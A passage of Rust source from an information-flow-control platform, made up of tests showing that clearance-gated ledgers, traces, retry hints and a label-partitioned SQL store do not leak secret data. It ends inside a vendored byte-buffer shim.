            Arc::clone(&handler) as Arc<dyn Handler>,
            Arc::new(ByFirstSegment),
        );

        let observable = thread::scope(|s| {
            // Park the only worker on the gate.
            let p = Arc::clone(&pipeline);
            s.spawn(move || p.submit(Request::get("/gate/park"), peer()));
            poll_until(|| handler.held.load(Ordering::SeqCst) == 1, "worker parked");

            // The hidden principal's backlog (absent in the other world).
            for i in 0..hidden_backlog {
                let p = Arc::clone(&pipeline);
                s.spawn(move || p.submit(Request::get("/hidden/burst"), peer()));
                poll_until(|| pipeline.queue_depth() == i + 1, "hidden backlog queued");
            }

            // The honest class fills its own queue…
            for i in 0..DEPTH {
                let p = Arc::clone(&pipeline);
                s.spawn(move || p.submit(Request::get("/honest/work"), peer()));
                poll_until(
                    || pipeline.queue_depth() == hidden_backlog + i + 1,
                    "honest request queued",
                );
            }

            // …and the overflow request sheds. This response is the only
            // thing the honest client sees.
            let resp = pipeline.submit(Request::get("/honest/work"), peer());
            let retry: u64 = resp
                .header("retry-after")
                .expect("shed must carry Retry-After")
                .parse()
                .unwrap();
            let observable = (resp.status.0, retry);

            // Drain: release every parked/queued request and join.
            for _ in 0..(1 + hidden_backlog + DEPTH) {
                release.send(()).ok();
            }
            observable
        });
        pipeline.stop();
        observable
    }

    /// Difference the two worlds: the honest client's shed verdict and
    /// retry hint must be bit-identical whether the hidden class has an
    /// empty queue or a full one. (`/gate`, `/hidden` and `/honest` are
    /// distinct classes under `ByFirstSegment`, so the hidden backlog
    /// shares the worker pool — the contended resource — but not the
    /// honest queue.)
    #[test]
    fn hidden_backlog_never_shows_in_honest_retry_hints() {
        let quiet = honest_shed_observable(0);
        let flooded = honest_shed_observable(2);
        assert_eq!(quiet.0, 503, "overflow must shed");
        assert_eq!(
            quiet, flooded,
            "honest shed observable differs with hidden backlog: \
             Retry-After leaks another principal's queue depth"
        );
    }
}
