//! Cross-layer ledger integration: every W5 layer records into the one
//! global flow ledger, and a low-clearance reader provably cannot recover
//! per-event secret-labeled data from it (the §3.5 covert-channel defence).
//!
//! The global ledger is shared by every test in this binary, so all
//! assertions are presence-based or relative — never exact global counts.

use bytes::Bytes;
use std::collections::BTreeSet;
use std::sync::Arc;
use w5_difc::{CapSet, Label, LabelPair, TagKind, TagRegistry};
use w5_kernel::{Delivery, Kernel, ResourceLimits};
use w5_net::{Method, Router};
use w5_obs::ledger::QUANTUM;
use w5_obs::{EventKind, Layer, LedgerView, ObsLabel};
use w5_platform::{
    DeclassifierRegistry, PolicyStore, StaticRelations,
};
use w5_platform::perimeter::Exporter;
use w5_platform::principal::AccountStore;
use w5_store::{LabeledFs, Subject};

/// A path string that exists only inside secret-labeled events; the low
/// view must never contain it anywhere.
const SECRET_MARKER: &str = "/vault/observability-secret-marker";

/// Drive all five layers against one registry, returning the tag ids that
/// label the secret flows.
fn drive_all_layers() -> Vec<u64> {
    let registry = Arc::new(TagRegistry::new());
    let mut secret_tags = Vec::new();

    // ---- kernel (+ difc): spawn, tag, taint, a delivered and a dropped
    // send, and a receive.
    let kernel = Kernel::new(Arc::clone(&registry));
    let a = kernel.create_process(
        "obs-a",
        LabelPair::public(),
        CapSet::empty(),
        ResourceLimits::unlimited(),
    );
    let b = kernel.create_process(
        "obs-b",
        LabelPair::public(),
        CapSet::empty(),
        ResourceLimits::unlimited(),
    );
    assert_eq!(
        kernel.send(a, b, Bytes::from_static(b"public hello"), CapSet::empty()).unwrap(),
        Delivery::Delivered
    );
    assert!(kernel.recv(b).unwrap().is_some());

    // Taint `a` with a fresh export tag, discard its capabilities, and
    // watch the flow rules drop the now-inadmissible send.
    let t = kernel.create_tag(a, TagKind::ExportProtect, "export:obs-itest").unwrap();
    secret_tags.push(t.raw());
    kernel
        .change_labels(a, LabelPair::new(Label::singleton(t), Label::empty()))
        .unwrap();
    let caps = kernel.caps(a).unwrap();
    kernel.drop_caps(a, &caps).unwrap();
    assert_eq!(
        kernel.send(a, b, Bytes::from_static(b"secret payload"), CapSet::empty()).unwrap(),
        Delivery::Dropped
    );

    // ---- store: a read-protected secret file; the owner reads it, a
    // stranger is refused (and the refusal is itself secret-labeled).
    let (r, r_caps) = registry.create_tag(TagKind::ReadProtect, "read:obs-itest");
    secret_tags.push(r.raw());
    let fs = LabeledFs::new();
    let secret = LabelPair::new(Label::singleton(r), Label::empty());
    let owner = Subject::new(LabelPair::public(), registry.effective(&r_caps));
    fs.create(&owner, SECRET_MARKER, secret, Bytes::from_static(b"classified"))
        .unwrap();
    assert!(fs.read(&owner, SECRET_MARKER).is_ok());
    let stranger = Subject::new(LabelPair::public(), registry.effective(&CapSet::empty()));
    assert!(fs.read(&stranger, SECRET_MARKER).is_err());

    // ---- platform (+ difc declassifiers): the export perimeter blocks a
    // stranger viewing bob's export-protected data.
    let accounts = AccountStore::new(Arc::clone(&registry));
    let bob = accounts.register("obs-bob", "pw").unwrap();
    let alice = accounts.register("obs-alice", "pw").unwrap();
    secret_tags.push(bob.export_tag.raw());
    let exporter = Exporter::new();
    let policies = PolicyStore::new();
    let declass = DeclassifierRegistry::with_builtins();
    let rel = StaticRelations::new();
    let bob_data = LabelPair::new(Label::singleton(bob.export_tag), Label::empty());
    let denied = exporter.check(
        &bob_data,
        Some(&alice),
        "devA/photos",
        &accounts,
        &policies,
        &declass,
        &rel,
    );
    assert!(!denied.allowed);
    let allowed = exporter.check(
        &bob_data,
        Some(&bob),
        "devA/photos",
        &accounts,
        &policies,
        &declass,
        &rel,
    );
    assert!(allowed.allowed);

    // ---- net: route resolution (the public wire-facing layer).
    let mut router: Router<&str> = Router::new();
    router.add(Method::Get, "/app/:name", "app");
    assert!(router.find(Method::Get, "/app/photos").is_some());
    assert!(router.find(Method::Get, "/nowhere").is_none());

    secret_tags
}

fn layers_of(view: &LedgerView) -> BTreeSet<Layer> {
    view.events.iter().map(|e| e.kind.layer()).collect()
}

fn event_mentions_marker(kind: &EventKind) -> bool {
    format!("{kind:?}").contains(SECRET_MARKER)
}

#[test]
fn ledger_spans_all_layers_and_resists_low_clearance_readers() {
    let secret_tags = drive_all_layers();

    // A fully-cleared auditor sees events from every layer, including the
    // secret store accesses verbatim.
    let broad = ObsLabel::from_tags(1..=4096);
    let full = w5_obs::global().view(&broad);
    assert_eq!(
        layers_of(&full),
        Layer::ALL.iter().copied().collect::<BTreeSet<_>>(),
        "the ledger must record events from all five layers"
    );
    assert!(
        full.events.iter().any(|e| event_mentions_marker(&e.kind)),
        "a cleared auditor sees the secret store path verbatim"
    );
    assert!(
        full.events.iter().any(|e| {
            matches!(e.kind, EventKind::IpcSend { delivered: false, .. })
                && !e.secrecy.is_empty()
        }),
        "the dropped tainted send must appear, labeled with the sender's secrecy"
    );

    // A viewer with no clearance gets only public events...
    let low = w5_obs::global().view(&ObsLabel::empty());
    assert!(low.redacted, "secret events must be withheld from an empty clearance");
    for e in &low.events {
        assert!(e.secrecy.is_empty(), "no secret-labeled event may leak into the low view");
        assert!(
            !event_mentions_marker(&e.kind),
            "the secret path must be unrecoverable at low clearance"
        );
        for tag in &secret_tags {
            assert!(!e.secrecy.contains(*tag));
        }
    }
    assert!(
        low.events.len() < full.events.len(),
        "the low view must be a strict subset of the cleared view"
    );

    // ...with sequence numbers re-issued densely, so seq gaps cannot count
    // hidden events...
    for (i, e) in low.events.iter().enumerate() {
        assert_eq!(e.seq, i as u64, "redacted views must re-issue seq densely");
    }

    // ...aggregates floored to the quantum, so counters cannot be stepped
    // one secret event at a time...
    for v in low.aggregate.events.values().chain(low.aggregate.denied.values()) {
        assert_eq!(v % QUANTUM, 0, "redacted aggregates must be quantized");
    }

    // ...and the export-check latency series (labeled with bob's export
    // tag) withheld entirely.
    assert!(
        !low.latencies.contains_key("platform.export_check"),
        "a secret-labeled latency series must not be visible at low clearance"
    );
    assert!(low.latencies_withheld >= 1);
    let cleared = w5_obs::global().view(&broad);
    assert!(
        cleared.latencies.contains_key("platform.export_check"),
        "the same series is visible once the clearance covers its label"
    );
}

#[test]
fn snapshot_json_roundtrips_a_clearance_gated_view() {
    // Record a couple of public events so the snapshot is non-trivial even
    // if this test runs first.
    let mut router: Router<&str> = Router::new();
    router.add(Method::Get, "/ping", "ping");
    assert!(router.find(Method::Get, "/ping").is_some());

    let clearance = ObsLabel::empty();
    let json = w5_obs::global().snapshot_json(&clearance).unwrap();
    let back: LedgerView = serde_json::from_str(&json).unwrap();
    assert_eq!(back.clearance, clearance);
    assert!(!back.events.is_empty());
    assert!(back.events.iter().all(|e| e.secrecy.is_empty()));
    assert!(back
        .events
        .iter()
        .any(|e| matches!(&e.kind, EventKind::RouteResolve { path, .. } if path == "/ping")));
}
