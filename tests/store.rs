//! Integration suite for the label-partitioned store: the four-arm
//! differential oracle over fixed seeds, plus a property-based
//! differential that drives both executors through random statement
//! sequences — with chaos fault storms and DML interleaved with index
//! builds — and demands identical observable outcomes.
//!
//! `QueryOutput::scanned` is the one field the executors legitimately
//! disagree on (pruning is the point); every comparison below zeroes it
//! out and instead asserts the direction: partitioned never charges more
//! than reference.

use proptest::prelude::*;
use std::sync::Arc;
use w5_difc::{CapSet, Label, LabelPair, TagKind, TagRegistry};
use w5_sim::storediff;
use w5_sim::StoreSpec;
use w5_store::{Database, QueryCost, QueryError, QueryMode, QueryOutput, Subject};

/// The full four-arm check (reference/partitioned × serial/concurrent)
/// over several seeds, calm and stormy. This is what CI's store job runs.
#[test]
fn four_arm_differential_over_seeds() {
    for (seed, fault_rate) in [(20070824u64, 0.05), (5, 0.0), (77, 0.25)] {
        storediff::assert_store_differential(&StoreSpec {
            seed,
            threads: 4,
            ops_per_thread: 120,
            fault_rate,
        });
    }
}

/// More threads than tables is pointless (one table per thread), but more
/// threads than cores is exactly the contention the RwLock sees in
/// production. Keep one heavier spec pinned.
#[test]
fn four_arm_differential_under_contention() {
    storediff::assert_store_differential(&StoreSpec {
        seed: 424242,
        threads: 8,
        ops_per_thread: 80,
        fault_rate: 0.1,
    });
}

// ---------------------------------------------------------------------
// Property-based differential: single-threaded, but with arbitrary
// statement sequences rather than a weighted schedule.
// ---------------------------------------------------------------------

#[derive(Clone, Debug)]
enum StoreOp {
    /// Owner INSERT at label kind 0/1/2 (public / secret / guarded).
    Insert { kind: u8, id: u8, v: u16 },
    /// Point lookup on the (maybe) indexed key.
    Point { stranger: bool, id: u8 },
    /// Range scan on the payload column.
    Range { stranger: bool, lo: u16, span: u16 },
    /// Aggregates over everything visible.
    Agg { stranger: bool },
    /// Owner update of the payload.
    Update { id: u8, v: u16 },
    /// Owner update that rewrites the indexed key (forces run rebuilds).
    Shift { id: u8 },
    /// Stranger blanket write — deterministically denied once a guarded
    /// row matches.
    StrangerUpdate { v: u16 },
    /// Owner point delete (empties partitions).
    Delete { id: u8 },
    /// CREATE INDEX interleaved with the DML above.
    Index { on_v: bool },
}

fn arb_op() -> impl Strategy<Value = StoreOp> {
    prop_oneof![
        (0u8..3, any::<u8>(), 0u16..1000)
            .prop_map(|(kind, id, v)| StoreOp::Insert { kind, id: id % 24, v }),
        (any::<bool>(), any::<u8>())
            .prop_map(|(stranger, id)| StoreOp::Point { stranger, id: id % 24 }),
        (any::<bool>(), 0u16..900, 1u16..300)
            .prop_map(|(stranger, lo, span)| StoreOp::Range { stranger, lo, span }),
        any::<bool>().prop_map(|stranger| StoreOp::Agg { stranger }),
        (any::<u8>(), 0u16..1000).prop_map(|(id, v)| StoreOp::Update { id: id % 24, v }),
        any::<u8>().prop_map(|id| StoreOp::Shift { id: id % 24 }),
        (0u16..1000).prop_map(|v| StoreOp::StrangerUpdate { v }),
        any::<u8>().prop_map(|id| StoreOp::Delete { id: id % 24 }),
        any::<bool>().prop_map(|on_v| StoreOp::Index { on_v }),
    ]
}

struct DiffWorld {
    owner: Subject,
    stranger: Subject,
    secret: LabelPair,
    guarded: LabelPair,
}

/// One registry shared by both arms: identical subjects, identical tags.
fn diff_world() -> DiffWorld {
    let reg = Arc::new(TagRegistry::new());
    let (e, mut caps) = reg.create_tag(TagKind::ReadProtect, "store-prop:r");
    let (w, wc) = reg.create_tag(TagKind::WriteProtect, "store-prop:w");
    caps.extend(&wc);
    DiffWorld {
        owner: Subject::new(
            LabelPair::new(Label::empty(), Label::singleton(w)),
            reg.effective(&caps),
        ),
        stranger: Subject::new(LabelPair::public(), reg.effective(&CapSet::empty())),
        secret: LabelPair::new(Label::singleton(e), Label::singleton(w)),
        guarded: LabelPair::new(Label::empty(), Label::singleton(w)),
    }
}

/// Apply the sequence to one database. Setup runs outside the injector
/// scope (it must never abort); the ops run inside it, so both arms see
/// the identical seeded fault stream. Returns per-statement outcomes
/// with `scanned` zeroed, plus the total cost actually charged.
fn apply(
    db: &Database,
    w: &DiffWorld,
    ops: &[StoreOp],
    chaos_seed: u64,
    fault_rate: f64,
) -> (Vec<Result<QueryOutput, QueryError>>, u64) {
    let run = |subj: &Subject, mode: QueryMode, labels: &LabelPair, sql: &str| {
        db.execute(subj, mode, QueryCost::unlimited(), labels, sql)
    };
    run(&w.owner, QueryMode::Filtered, &LabelPair::public(), "CREATE TABLE p (id INTEGER, v INTEGER, s TEXT)")
        .expect("setup: create");
    for i in 0..9i64 {
        let labels = match i % 3 {
            0 => LabelPair::public(),
            1 => w.secret.clone(),
            _ => w.guarded.clone(),
        };
        run(
            &w.owner,
            QueryMode::Filtered,
            &labels,
            &format!("INSERT INTO p VALUES ({}, {}, 'seed{i}')", i % 24, i * 111 % 1000),
        )
        .expect("setup: seed");
    }
    db.create_index("p", "id").expect("setup: index");

    let inj = w5_chaos::Injector::new(
        w5_chaos::FaultPlan::new(chaos_seed).with(w5_chaos::Site::SqlQuery, fault_rate),
    );
    let _chaos = w5_chaos::with_injector(inj);
    let mut scanned = 0u64;
    let outcomes = ops
        .iter()
        .map(|op| {
            let public = LabelPair::public();
            let r = match op {
                StoreOp::Insert { kind, id, v } => {
                    let labels = match kind % 3 {
                        0 => public,
                        1 => w.secret.clone(),
                        _ => w.guarded.clone(),
                    };
                    run(
                        &w.owner,
                        QueryMode::Filtered,
                        &labels,
                        &format!("INSERT INTO p VALUES ({id}, {v}, 'r{id}')"),
                    )
                }
                StoreOp::Point { stranger, id } => run(
                    if *stranger { &w.stranger } else { &w.owner },
                    QueryMode::Filtered,
                    &public,
                    &format!("SELECT id, v, s FROM p WHERE id = {id}"),
                ),
                StoreOp::Range { stranger, lo, span } => run(
                    if *stranger { &w.stranger } else { &w.owner },
                    QueryMode::Filtered,
                    &public,
                    &format!(
                        "SELECT id, v FROM p WHERE v >= {lo} AND v < {} ORDER BY id",
                        lo + span
                    ),
                ),
                StoreOp::Agg { stranger } => run(
                    if *stranger { &w.stranger } else { &w.owner },
                    QueryMode::Filtered,
                    &public,
                    "SELECT COUNT(*), SUM(v), MIN(id), MAX(v) FROM p",
                ),
                StoreOp::Update { id, v } => run(
                    &w.owner,
                    QueryMode::Filtered,
                    &public,
                    &format!("UPDATE p SET v = {v} WHERE id = {id}"),
                ),
                StoreOp::Shift { id } => run(
                    &w.owner,
                    QueryMode::Filtered,
                    &public,
                    &format!("UPDATE p SET id = id + 24 WHERE id = {id}"),
                ),
                StoreOp::StrangerUpdate { v } => run(
                    &w.stranger,
                    QueryMode::Filtered,
                    &public,
                    &format!("UPDATE p SET s = 'x' WHERE v >= {v}"),
                ),
                StoreOp::Delete { id } => run(
                    &w.owner,
                    QueryMode::Filtered,
                    &public,
                    &format!("DELETE FROM p WHERE id = {id}"),
                ),
                StoreOp::Index { on_v } => run(
                    &w.owner,
                    QueryMode::Filtered,
                    &public,
                    if *on_v { "CREATE INDEX ON p (v)" } else { "CREATE INDEX ON p (id)" },
                ),
            };
            r.map(|mut out| {
                scanned += out.scanned;
                out.scanned = 0;
                out
            })
        })
        .collect();
    (outcomes, scanned)
}

proptest! {
    /// Arbitrary statement sequences — calm — observe identically under
    /// both executors, and pruning never charges more than scanning.
    #[test]
    fn executors_agree_on_arbitrary_sequences(
        ops in proptest::collection::vec(arb_op(), 1..60),
    ) {
        let w = diff_world();
        let (ref_out, ref_scanned) = apply(&Database::reference(), &w, &ops, 0, 0.0);
        let (part_out, part_scanned) = apply(&Database::new(), &w, &ops, 0, 0.0);
        prop_assert_eq!(ref_out, part_out);
        prop_assert!(part_scanned <= ref_scanned,
            "pruning charged more than reference ({part_scanned} vs {ref_scanned})");
    }

    /// The same property under a heavy fault storm: injected aborts land
    /// on the same statements in both arms, so outcomes still match.
    #[test]
    fn executors_agree_under_fault_storms(
        ops in proptest::collection::vec(arb_op(), 1..60),
        chaos_seed in any::<u64>(),
    ) {
        let w = diff_world();
        let (ref_out, ref_scanned) = apply(&Database::reference(), &w, &ops, chaos_seed, 0.3);
        let (part_out, part_scanned) = apply(&Database::new(), &w, &ops, chaos_seed, 0.3);
        prop_assert_eq!(ref_out, part_out);
        prop_assert!(part_scanned <= ref_scanned);
    }
}
