//! Causal tracing across the whole stack: a federation pull over real
//! HTTP stitches into one clearance-gated request tree, and a viewer
//! without clearance provably cannot recover high-secrecy span names or
//! fine-grained timings from it (the trace analogue of the §3.5 ledger
//! covert-channel defence).
//!
//! The global ledger is shared by every test in this binary, so all
//! assertions on it are presence-based — never exact global counts.

use bytes::Bytes;
use std::sync::Arc;
use w5_federation::service::opt_in;
use w5_federation::{AccountLink, FederationService, SyncAgent};
use w5_net::{Server, ServerConfig};
use w5_obs::trace::{critical_path, redact_spans, render_tree, REDACTED_NAME, SPAN_QUANTUM_US};
use w5_obs::{Layer, Ledger, ObsLabel, SpanRecord};
use w5_platform::Platform;
use w5_sim::{build_population, PopulationConfig};

const TOKEN: &str = "trace-itest-peer-token";

/// Every span of one trace, pulled from the global ledger with broad
/// clearance.
fn trace_spans(trace: u64) -> Vec<SpanRecord> {
    let broad = ObsLabel::from_tags(1..=4096);
    w5_obs::global()
        .trace_view(&broad)
        .spans
        .into_iter()
        .filter(|s| s.trace == trace)
        .collect()
}

#[test]
fn cross_federation_pull_stitches_one_request_tree() {
    w5_obs::set_trace_sampling(1.0, 0);

    // Provider A: populated; provider B: fresh mirror.
    let world = build_population(
        Platform::new_default("trace-provider-a"),
        PopulationConfig { users: 2, photos_per_user: 2, ..Default::default() },
    );
    let a = Arc::clone(&world.platform);
    let b = Platform::new_default("trace-provider-b");
    w5_apps::install_all(&b);
    for account in &world.accounts {
        b.accounts.register(&account.username, "pw").unwrap();
    }
    let u0 = &world.accounts[0];
    opt_in(&a, u0.id);

    let svc = FederationService::new(Arc::clone(&a), TOKEN);
    let server = Server::start("127.0.0.1:0", ServerConfig::default(), Arc::new(svc)).unwrap();
    let agent = SyncAgent::new(Arc::clone(&b), TOKEN);
    let link = AccountLink { remote_user: u0.username.clone(), local_user: u0.username.clone() };
    let report = agent.pull(server.addr(), &link).unwrap();
    assert_eq!(report.created, 2, "{report:?}");
    server.shutdown();

    // The agent's pull span is the root; the peer's HTTP span continued
    // the same trace via the wire context, and the export span nests
    // under the HTTP span. Three spans, two threads, one tree.
    let broad = ObsLabel::from_tags(1..=4096);
    let all = w5_obs::global().trace_view(&broad).spans;
    let pull = all
        .iter()
        .filter(|s| s.name.starts_with("federation.pull"))
        .max_by_key(|s| s.id)
        .expect("no federation.pull span recorded")
        .clone();
    let spans = trace_spans(pull.trace);

    let http = spans
        .iter()
        .find(|s| s.name.starts_with("net.http GET /federation/export"))
        .expect("peer's HTTP span did not join the caller's trace");
    let export = spans
        .iter()
        .find(|s| s.name.starts_with("federation.export"))
        .expect("no federation.export span in the trace");

    assert_eq!(pull.parent, None, "the pull is the root");
    assert_eq!(http.parent, Some(pull.id), "wire context must carry the parent edge");
    assert_eq!(export.parent, Some(http.id), "export nests under the HTTP span");
    assert_eq!(http.layer, Layer::Net);

    // The rendered tree shows the full chain, indented in causal order.
    let tree = render_tree(&spans);
    let pull_ix = tree.find("federation.pull").unwrap();
    let http_ix = tree.find("net.http").unwrap();
    let export_ix = tree.find("federation.export").unwrap();
    assert!(pull_ix < http_ix && http_ix < export_ix, "tree out of causal order:\n{tree}");

    // Critical-path analysis attributes the trace's wall time: the path
    // starts at the root and descends through the HTTP hop.
    let path = critical_path(&spans, pull.trace);
    assert!(path.len() >= 2, "critical path too shallow: {path:?}");
    assert!(path[0].name.starts_with("federation.pull"));
}

#[test]
fn app_invocation_tree_has_kernel_children() {
    w5_obs::set_trace_sampling(1.0, 0);

    let world = build_population(
        Platform::new_default("trace-invoke"),
        PopulationConfig { users: 1, photos_per_user: 1, ..Default::default() },
    );
    let p = Arc::clone(&world.platform);
    let u0 = &world.accounts[0];
    let req = Platform::make_request(
        "GET",
        "view",
        &[("user", u0.username.as_str()), ("name", "photo0")],
        Some(u0),
        Bytes::new(),
    );
    assert_eq!(p.invoke(Some(u0), "devA/photos", req).status, 200);

    let broad = ObsLabel::from_tags(1..=4096);
    let all = w5_obs::global().trace_view(&broad).spans;
    let stitched = all.iter().any(|inv| {
        inv.name.starts_with("platform.invoke devA/photos")
            && all.iter().any(|k| {
                k.layer == Layer::Kernel && k.trace == inv.trace && k.parent == Some(inv.id)
            })
    });
    assert!(stitched, "no platform.invoke span with a kernel child span");
}

#[test]
fn low_clearance_viewer_gets_structure_but_not_names_or_timing() {
    // Private ledger: this test owns every span it sees.
    let ledger = Arc::new(Ledger::new());
    let _scope = w5_obs::scoped(Arc::clone(&ledger));
    let secret = ObsLabel::singleton(777_001);

    {
        let _root = w5_obs::span("public.op", Layer::Net, &ObsLabel::empty());
        let _child = w5_obs::span("secret.declassify bob-diary", Layer::Platform, &secret);
    }
    assert_eq!(ledger.spans_recorded(), 2);

    // Cleared viewer: full names and labels.
    let full = ledger.trace_view(&secret);
    assert_eq!(full.redacted_spans, 0);
    assert!(full.spans.iter().any(|s| s.name == "secret.declassify bob-diary"));

    // Empty clearance: the tree shape survives, the secret span's name
    // and label do not, and its timings are floored to the quantum.
    let zero = ledger.trace_view(&ObsLabel::empty());
    assert_eq!(zero.redacted_spans, 1);
    let hidden = zero.spans.iter().find(|s| s.parent.is_some()).unwrap();
    assert_eq!(hidden.name, REDACTED_NAME);
    assert!(hidden.secrecy.is_subset(&ObsLabel::empty()));
    assert_eq!(hidden.start_us % SPAN_QUANTUM_US, 0);
    assert_eq!(hidden.duration_us() % SPAN_QUANTUM_US, 0);
    assert!(zero.spans.iter().any(|s| s.name == "public.op"), "public spans pass verbatim");
}

#[test]
fn unsampled_traces_record_no_spans_but_still_propagate_context() {
    let ledger = Arc::new(Ledger::new());
    ledger.set_trace_sampling(0.0, 42);
    let _scope = w5_obs::scoped(Arc::clone(&ledger));

    {
        let _root = w5_obs::span("never.recorded", Layer::Net, &ObsLabel::empty());
        let ctx = w5_obs::current_context().expect("context exists even unsampled");
        assert!(!ctx.sampled, "rate 0.0 must sample nothing");
        // The wire context still flows so a downstream hop honors the
        // same negative decision instead of re-rolling it.
        assert!(w5_obs::TraceContext::parse(&ctx.encode()).is_some());
        let _child = w5_obs::span("child.also.unsampled", Layer::Kernel, &ObsLabel::empty());
    }
    assert_eq!(ledger.spans_recorded(), 0);
}

#[test]
fn digest_covers_span_structure_but_not_wall_clock() {
    let run = |dawdle: bool, extra_span: bool| {
        let ledger = Arc::new(Ledger::new());
        let _scope = w5_obs::scoped(Arc::clone(&ledger));
        {
            let _root = w5_obs::span("digest.root", Layer::Platform, &ObsLabel::empty());
            if dawdle {
                std::thread::sleep(std::time::Duration::from_millis(2));
            }
            let _child = w5_obs::span("digest.child", Layer::Kernel, &ObsLabel::empty());
        }
        if extra_span {
            let _extra = w5_obs::span("digest.extra", Layer::Store, &ObsLabel::empty());
        }
        drop(_scope);
        ledger.digest()
    };
    // Same structure, different wall time: same digest.
    assert_eq!(run(false, false), run(true, false));
    // One more span: different digest.
    assert_ne!(run(false, false), run(false, true));
}

mod properties {
    use super::*;
    use proptest::prelude::*;

    /// A synthetic request tree: a public root with one public and n
    /// secret children; secret child i runs `durs[i]` µs.
    fn tree(durs: &[u64]) -> Vec<SpanRecord> {
        let secret = ObsLabel::singleton(900_000);
        let mut spans = vec![
            SpanRecord {
                trace: 0x7ace,
                id: 1,
                parent: None,
                name: "net.http GET /feed".into(),
                layer: Layer::Net,
                secrecy: ObsLabel::empty(),
                start_us: 0,
                end_us: 90_000,
            },
            SpanRecord {
                trace: 0x7ace,
                id: 2,
                parent: Some(1),
                name: "platform.sanitize".into(),
                layer: Layer::Platform,
                secrecy: ObsLabel::empty(),
                start_us: 1_000,
                end_us: 2_000,
            },
        ];
        for (i, &dur) in durs.iter().enumerate() {
            let start = 10_000 + 20_000 * i as u64;
            spans.push(SpanRecord {
                trace: 0x7ace,
                id: 3 + i as u64,
                parent: Some(1),
                name: format!("platform.declass.secret-{i}"),
                layer: Layer::Platform,
                secrecy: secret.clone(),
                start_us: start,
                end_us: start + dur,
            });
        }
        spans
    }

    /// Everything a low-clearance `w5trace` user can observe about a
    /// span list: the gated spans' JSON, the rendered tree, and the
    /// critical path.
    fn low_clearance_output(spans: &[SpanRecord]) -> String {
        let (gated, redacted) = redact_spans(spans, &ObsLabel::empty());
        let json = serde_json::to_string(&gated).unwrap();
        let tree = render_tree(&gated);
        let path = critical_path(&gated, gated[0].trace);
        format!("{json}\n{tree}\n{path:?}\nredacted={redacted}")
    }

    proptest! {
        /// Two runs identical except for how long the high-secrecy spans
        /// took (within one timing quantum) are indistinguishable to a
        /// viewer without clearance — byte-identical w5trace output. The
        /// trace-timing covert channel carries at most log2(quantum
        /// buckets) bits, exactly like the ledger's quantized aggregates.
        #[test]
        fn secret_durations_are_invisible_at_low_clearance(
            durs_a in proptest::collection::vec(0u64..SPAN_QUANTUM_US, 1..6),
            durs_b in proptest::collection::vec(0u64..SPAN_QUANTUM_US, 1..6),
        ) {
            // Same number of secret spans in both runs; only durations
            // differ (and stay inside one quantum bucket).
            let n = durs_a.len().min(durs_b.len());
            let a = tree(&durs_a[..n]);
            let b = tree(&durs_b[..n]);
            prop_assert_eq!(low_clearance_output(&a), low_clearance_output(&b));
        }

        /// A cleared viewer, by contrast, sees the real durations: the
        /// redaction is clearance-gating, not data loss.
        #[test]
        fn cleared_viewer_sees_exact_durations(dur in 1u64..SPAN_QUANTUM_US) {
            let spans = tree(&[dur]);
            let secret = ObsLabel::singleton(900_000);
            let (gated, redacted) = redact_spans(&spans, &secret);
            prop_assert_eq!(redacted, 0);
            let s = gated.iter().find(|s| s.name.starts_with("platform.declass")).unwrap();
            prop_assert_eq!(s.duration_us(), dur);
        }
    }
}
