//! Offline vendored shim for `bytes`.
//!
//! [`Bytes`] here is an `Arc<[u8]>` — clones are reference-count bumps, so
//! the "cheap clone of an immutable buffer" property the real crate
//! provides is preserved. Only the API surface this workspace uses is
//! implemented.

use std::borrow::Borrow;
use std::fmt;
use std::hash::{Hash, Hasher};
use std::ops::Deref;
use std::sync::Arc;

/// A cheaply-cloneable immutable contiguous slice of memory.
#[derive(Clone)]
pub struct Bytes(Arc<[u8]>);

impl Bytes {
    /// An empty buffer.
    pub fn new() -> Bytes {
        Bytes(Arc::from(&[][..]))
    }

    /// Wrap a static slice (copies here; the real crate borrows, but the
    /// observable behavior is the same).
    pub fn from_static(bytes: &'static [u8]) -> Bytes {
        Bytes(Arc::from(bytes))
    }

    /// Copy a slice into a new buffer.
    pub fn copy_from_slice(data: &[u8]) -> Bytes {
        Bytes(Arc::from(data))
    }

    /// Length in bytes.
    pub fn len(&self) -> usize {
        self.0.len()
    }

    /// Whether the buffer is empty.
    pub fn is_empty(&self) -> bool {
        self.0.is_empty()
    }

    /// Copy out a sub-range as a new buffer.
    pub fn slice(&self, range: impl std::ops::RangeBounds<usize>) -> Bytes {
        use std::ops::Bound;
        let start = match range.start_bound() {
            Bound::Included(&n) => n,
            Bound::Excluded(&n) => n + 1,
            Bound::Unbounded => 0,
        };
        let end = match range.end_bound() {
            Bound::Included(&n) => n + 1,
            Bound::Excluded(&n) => n,
            Bound::Unbounded => self.0.len(),
        };
        Bytes(Arc::from(&self.0[start..end]))
    }

    /// Copy the contents into a `Vec<u8>`.
    pub fn to_vec(&self) -> Vec<u8> {
        self.0.to_vec()
    }
}

impl Default for Bytes {
    fn default() -> Self {
        Bytes::new()
    }
}

impl Deref for Bytes {
    type Target = [u8];
    fn deref(&self) -> &[u8] {
        &self.0
    }
}

impl AsRef<[u8]> for Bytes {
    fn as_ref(&self) -> &[u8] {
        &self.0
    }
}

impl Borrow<[u8]> for Bytes {
    fn borrow(&self) -> &[u8] {
        &self.0
    }
}

impl From<Vec<u8>> for Bytes {
    fn from(v: Vec<u8>) -> Bytes {
        Bytes(Arc::from(v.into_boxed_slice()))
    }
}

impl From<String> for Bytes {
    fn from(s: String) -> Bytes {
        Bytes::from(s.into_bytes())
    }
}

impl From<&'static str> for Bytes {
    fn from(s: &'static str) -> Bytes {
        Bytes(Arc::from(s.as_bytes()))
    }
}

impl From<&'static [u8]> for Bytes {
    fn from(s: &'static [u8]) -> Bytes {
        Bytes(Arc::from(s))
    }
}

impl<const N: usize> From<&'static [u8; N]> for Bytes {
    fn from(s: &'static [u8; N]) -> Bytes {
        Bytes(Arc::from(&s[..]))
    }
}

impl From<Box<[u8]>> for Bytes {
    fn from(v: Box<[u8]>) -> Bytes {
        Bytes(Arc::from(v))
    }
}

impl FromIterator<u8> for Bytes {
    fn from_iter<I: IntoIterator<Item = u8>>(iter: I) -> Bytes {
        Bytes::from(iter.into_iter().collect::<Vec<u8>>())
    }
}

impl PartialEq for Bytes {
    fn eq(&self, other: &Bytes) -> bool {
        self.0[..] == other.0[..]
    }
}

impl Eq for Bytes {}

impl PartialOrd for Bytes {
    fn partial_cmp(&self, other: &Bytes) -> Option<std::cmp::Ordering> {
        Some(self.cmp(other))
    }
}

impl Ord for Bytes {
    fn cmp(&self, other: &Bytes) -> std::cmp::Ordering {
